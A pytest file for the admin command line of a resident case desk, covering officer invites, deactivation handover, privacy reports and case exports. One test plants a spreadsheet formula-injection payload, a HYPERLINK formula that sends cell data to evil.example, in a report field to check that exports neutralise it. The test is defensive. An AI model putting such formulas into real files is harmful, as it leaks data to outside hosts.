"""The admin command line, run in-process against a fresh store and the sample station."""

from __future__ import annotations

import csv
import io
import stat

import pytest

from hemu.admin import main
from hemu.cases import CaseState
from hemu.desk import Report
from hemu.store import InviteError


def run(desk, *argv: str) -> tuple[int, str]:
    out = io.StringIO()
    code = main(list(argv), out=out, desk=lambda: desk)
    return code, out.getvalue()


def noise_case(desk, resident: str = "7", area: str = "binhe"):
    return desk.open_case(
        Report(
            resident_id=resident,
            language="zh",
            category="report_noise",
            summary="楼上半夜拖椅子",
            area_id=area,
            harm="none",
            contact_consent=True,
            contact="138 0000 1234",
        )
    ).case


def test_check_passes_on_the_sample_configuration(capsys) -> None:
    assert main(["check"], out=io.StringIO()) == 0


def test_officers_list_shows_roster_access_and_load(case_desk) -> None:
    noise_case(case_desk)
    code, out = run(case_desk, "officers", "list")
    rows = {row[0]: row for row in csv.reader(io.StringIO(out), delimiter="\t")}
    assert code == 0
    assert rows["wang_li"][4:7] == ["yes", "-", "1"]
    assert "(supervisor)" in rows["zhou_jian"][1]


def test_invite_code_links_the_officer_once(case_desk) -> None:
    code, out = run(case_desk, "officers", "invite", "zhao_min")
    assert code == 0
    invite = out.split(": ", 1)[1].split()[0]
    assert f"/register {invite}" in out
    assert case_desk.store.officers.redeem_invite(invite, 555, case_desk.now()) == "zhao_min"
    with pytest.raises(InviteError):
        case_desk.store.officers.redeem_invite(invite, 556, case_desk.now())
    assert case_desk.store.officers.officer_for_chat(555) == "zhao_min"


def test_an_export_runs_no_formula_and_only_its_owner_can_read_it(case_desk, tmp_path) -> None:
    case = case_desk.open_case(
        Report(
            resident_id="7",
            language="en",
            category="report_noise",
            summary='=HYPERLINK("http://evil.example/?"&A1,"details")',
            area_id="binhe",
            parties="@SUM(1+1)",
            harm="none",
            contact_consent=True,
            contact="+86 138 0000 1234",
        )
    ).case
    target = tmp_path / "cases.csv"
    target.write_text("old", encoding="utf-8")
    target.chmod(0o644)  # an earlier export, readable by everyone
    assert run(case_desk, "cases", "export", "--personal-data", "-o", str(target))[0] == 0
    assert stat.S_IMODE(target.stat().st_mode) == 0o600
    [row] = list(csv.DictReader(target.open(encoding="utf-8")))
    assert row["number"] == case.number and row["priority"] == "normal" and row["state"] == "open"
    assert row["summary"] == '\'=HYPERLINK("http://evil.example/?"&A1,"details")'
    assert row["parties"] == "'@SUM(1+1)" and row["contact"] == "'+86 138 0000 1234"
    fresh = tmp_path / "new.csv"
    assert run(case_desk, "cases", "export", "-o", str(fresh))[0] == 0
    assert stat.S_IMODE(fresh.stat().st_mode) == 0o600


def test_the_privacy_report_says_what_is_held_and_never_the_words(case_desk) -> None:
    noise_case(case_desk)
    code, out = run(case_desk, "privacy", "report")
    assert code == 0 and "180 days" in out
    assert "cases holding personal details     1" in out
    assert "楼上半夜拖椅子" not in out and "138" not in out


def test_invite_for_an_unknown_officer_fails(case_desk, capsys) -> None:
    code, _ = run(case_desk, "officers", "invite", "nobody")
    assert code == 1 and "no officer 'nobody'" in capsys.readouterr().err


def test_deactivating_hands_active_cases_over(case_desk) -> None:
    case = noise_case(case_desk)
    assert case.officer_id == "wang_li"
    code, out = run(case_desk, "officers", "deactivate", "wang_li")
    assert code == 0 and "1 active case(s) handed over" in out
    moved = case_desk.store.get(case.number)
    assert moved.officer_id != "wang_li" and moved.state == CaseState.HANDED_OVER
    assert "handed_over" in [event.kind for event in case_desk.store.events(case.number)]
    # New cases skip the deactivated officer, and so do invites.
    assert noise_case(case_desk, resident="8").officer_id != "wang_li"
    assert run(case_desk, "officers", "invite", "wang_li")[0] == 1
    assert run(case_desk, "officers", "activate", "wang_li")[0] == 0
    assert noise_case(case_desk, resident="9").officer_id == "wang_li"


def test_deactivating_hands_over_every_case_or_none(case_desk, capsys) -> None:
    """Deactivation used to commit first and hand over after: one case with nobody to take it left the
    officer switched off with the rest of their cases stranded."""
    first, second = noise_case(case_desk), noise_case(case_desk, resident="8")
    assert {first.officer_id, second.officer_id} == {"wang_li"}
    others = [o.id for o in case_desk.settings.roster.officers if o.id != "wang_li"]
    for officer_id in others:  # nobody else can take a case now
        case_desk.store.officers.deactivate(officer_id, case_desk.now())
    assert run(case_desk, "officers", "deactivate", "wang_li")[0] == 1
    assert "stays active with all their cases" in capsys.readouterr().err
    assert case_desk.store.officers.is_active("wang_li")
    assert {case_desk.store.get(n).officer_id for n in (first.number, second.number)} == {"wang_li"}

    case_desk.store.officers.reactivate("zhou_jian")  # the supervisor is back: every case has somewhere to go
    code, out = run(case_desk, "officers", "deactivate", "wang_li")
    assert code == 0 and "2 active case(s) handed over" in out
    assert {case_desk.store.get(n).officer_id for n in (first.number, second.number)} == {"zhou_jian"}


def test_invites_are_listed_without_codes_revoked_and_an_old_chat_unlinked(case_desk, capsys) -> None:
    code, out = run(case_desk, "officers", "invite", "wang_li")
    first = out.split(": ", 1)[1].split()[0]
    second = run(case_desk, "officers", "invite", "wang_li")[1].split(": ", 1)[1].split()[0]
    code, listing = run(case_desk, "officers", "invites")
    rows = list(csv.DictReader(io.StringIO(listing), delimiter="\t"))
    assert code == 0 and [(r["officer"], r["state"]) for r in rows] == [
        ("wang_li", "valid"),
        ("wang_li", "revoked"),
    ]
    assert first not in listing and second not in listing  # codes are never shown again
    assert run(case_desk, "officers", "revoke", rows[0]["id"]) == (0, "1 invite(s) revoked\n")
    assert run(case_desk, "officers", "revoke", rows[0]["id"])[0] == 1
    assert "already used or revoked" in capsys.readouterr().err
    with pytest.raises(InviteError, match="revoked"):
        case_desk.store.officers.redeem_invite(second, 42, case_desk.now())

    third = run(case_desk, "officers", "invite", "wang_li")[1].split(": ", 1)[1].split()[0]
    case_desk.store.officers.redeem_invite(third, 42, case_desk.now())
    fourth = run(case_desk, "officers", "invite", "wang_li")[1].split(": ", 1)[1].split()[0]
    with pytest.raises(InviteError, match="unlink it first"):
        case_desk.store.officers.redeem_invite(fourth, 43, case_desk.now())
    code, out = run(case_desk, "officers", "unlink", "wang_li")
    assert code == 0 and "unlinked" in out
    assert case_desk.store.officers.redeem_invite(fourth, 43, case_desk.now()) == "wang_li"
    assert run(case_desk, "officers", "revoke", "--officer", "wang_li") == (0, "0 invite(s) revoked\n")
    assert run(case_desk, "officers", "unlink", "nobody")[0] == 1


def test_the_supervisor_cannot_be_deactivated(case_desk, capsys) -> None:
    assert run(case_desk, "officers", "deactivate", "zhou_jian")[0] == 1
    assert "supervisor cannot be deactivated" in capsys.readouterr().err


def test_cases_list_show_and_audit_log(case_desk, clock) -> None:
    case = noise_case(case_desk)
    clock.advance(days=5)
    code, out = run(case_desk, "cases", "list", "--active")
    assert code == 0 and case.number in out and "OVERDUE" in out
    code, out = run(case_desk, "cases", "show", case.number.lower())
    assert code == 0
    assert "audit log:" in out and "opened ->open" in out and "assigned" in out and "None" not in out
    assert "wang_li" in out and "138 0000 1234" in out


def test_show_unknown_case(case_desk, capsys) -> None:
    assert run(case_desk, "cases", "show", "HM-2026-999999")[0] == 1
    assert "no case HM-2026-999999" in capsys.readouterr().err


def test_export_leaves_personal_data_out_unless_asked(case_desk, clock, tmp_path) -> None:
    case = noise_case(case_desk)
    clock.advance(hours=1)
    case_desk.store.transition(case.number, CaseState.CONTACTED, case_desk.now(), actor="officer:wang_li")
    code, out = run(case_desk, "cases", "export")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and row["number"] == case.number and row["promise_kept"] == "yes"
    assert "summary" not in row and "138" not in out
    target = tmp_path / "cases.csv"
    assert run(case_desk, "cases", "export", "--personal-data", "-o", str(target))[0] == 0
    [row] = list(csv.DictReader(target.open(encoding="utf-8")))
    assert row["summary"] == "楼上半夜拖椅子" and row["contact"] == "138 0000 1234"
